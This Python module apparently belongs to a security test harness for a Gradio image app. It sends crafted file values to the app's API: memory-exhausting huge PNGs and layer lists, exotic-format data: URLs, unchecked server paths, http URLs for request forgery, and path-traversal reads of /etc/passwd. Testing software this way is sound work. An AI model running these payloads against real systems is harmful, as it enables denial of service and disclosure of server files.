"""Attacks through file values: what Gradio's file inputs (and every other input, searched for file objects) are
sent instead of an uploaded file: data: URLs of huge or exotic images, paths on the server's disk, http URLs,
the old image editor's layers, and Gradio's own file route."""

from __future__ import annotations

import uuid
from collections.abc import Callable

from attacks.clients import Answer
from attacks.payloads import blank_png, data_url, encode, eps_seven, file_value, noise_png, seven
from attacks.target import Context


def editor_layers_to_draw(ctx: Context, scale: float) -> Answer:
    """The old sketchpad value sent to /draw: one 12000x12000 PNG (140 KB) as two layers and 2,000 references to
    it (issue 13 attack 1: +1.9 GB per layer in the image editor)."""
    side = 12000 if scale >= 1 else 6000
    big = data_url(ctx.payload(f"png{side}", lambda: blank_png(side, side)))
    layer = file_value(ctx.seven_path(), big)
    value = {"background": None, "layers": [layer, layer], "composite": layer}
    first = ctx.api.call("draw", [value, "cnn"])
    small = file_value(ctx.seven_path(), data_url(encode(seven(), "PNG")))
    many = {"background": None, "layers": [small] * int(2000 * max(scale, 0.25)), "composite": None}
    second = ctx.api.call("draw", [many, "cnn"])
    return Answer(first.kind, f"{first.text}; 2,000 layers: {second.text}"[:200])


def data_url_attack(target: str, fmt: str, meta: bool = False) -> Callable[[Context, float], Answer]:
    """A data: URL as the url of a file value on a file input (/upload: gr.Image, /classify: gr.File). Without
    Gradio's "meta" marker the value reaches the component as it is, and gr.Image decodes the data: URL with every
    Pillow format; with it, Gradio replaces the url by the path's before the component sees it."""

    def attack(ctx: Context, scale: float) -> Answer:
        if fmt == "12000x12000 PNG":
            side = 12000 if scale >= 1 else 6000
            data, mime = ctx.payload(f"png{side}", lambda: blank_png(side, side)), "image/png"
        elif fmt == "20 MB PNG":
            data, mime = ctx.payload("noise20", lambda: noise_png(20 if scale >= 1 else 6)), "image/png"
        elif fmt == "EPS":
            data, mime = eps_seven(), "application/postscript"
        else:  # PCX, SGI: decodable by Pillow, refused by the app as files
            data, mime = encode(seven(), fmt), f"image/{fmt.lower()}"
        value = file_value(ctx.seven_path(), data_url(data, mime))
        if not meta:
            del value["meta"]
        return ctx.api.call(target, [value, "cnn"])

    attack.__doc__ = f"A {fmt} as a data: URL in the file value of /{target}{'' if meta else ' (no meta)'}."
    return attack


def bare_file_value(target: str, what: str) -> Callable[[Context, float], Answer]:
    """A file value without Gradio's "meta" marker naming a file on the server's disk: Gradio then does not check
    its path and hands it to the component as it is."""

    def attack(ctx: Context, scale: float) -> Answer:
        value = {"path": what, "url": None}  # a path on the server's disk that was never uploaded
        return ctx.api.call(target, [value, "cnn"])

    attack.__doc__ = f"A file value without meta on /{target}: {what}."
    return attack


def data_url_as_path(ctx: Context, scale: float) -> Answer:
    """A data: URL as the file's *path* (not its url) on /classify."""
    value = file_value(data_url(encode(seven(), "PNG")))
    return ctx.api.call("classify", [value, "cnn"])


def url_path_attack(target: str) -> Callable[[Context, float], Answer]:
    """A file value whose path is an http URL (a loopback server standing in for any web server)."""

    def attack(ctx: Context, scale: float) -> Answer:
        before = len(ctx.files.hits)
        url = ctx.files.url + f"?{uuid.uuid4().hex}"
        if target == "draw":  # any input's value is searched for file objects, also the pad's
            args = [{"strokes": [], "width": 20, "x": file_value(url)}, "cnn"]
        elif target == "switch_model":
            args = [file_value(url)]
        else:
            args = [file_value(url), "cnn"]
        answer = ctx.api.call(target, args)
        fetched = len(ctx.files.hits) - before
        return Answer(answer.kind, f"{answer.text} (the app fetched the URL {fetched} time(s))")

    attack.__doc__ = f"An http:// URL as a file path on /{target}; the loopback server counts whether it is fetched."
    return attack


def file_route(ctx: Context, scale: float) -> Answer:
    """Reading files through Gradio's file route: /etc/passwd, the app's own source, a forged cache path."""
    paths = ("/etc/passwd", "app.py", "/tmp/x/../../etc/passwd")
    codes = [ctx.api.http.get(f"/gradio_api/file={p}").status_code for p in paths]
    return Answer("refused" if all(c >= 400 for c in codes) else "answer", f"HTTP {codes}")
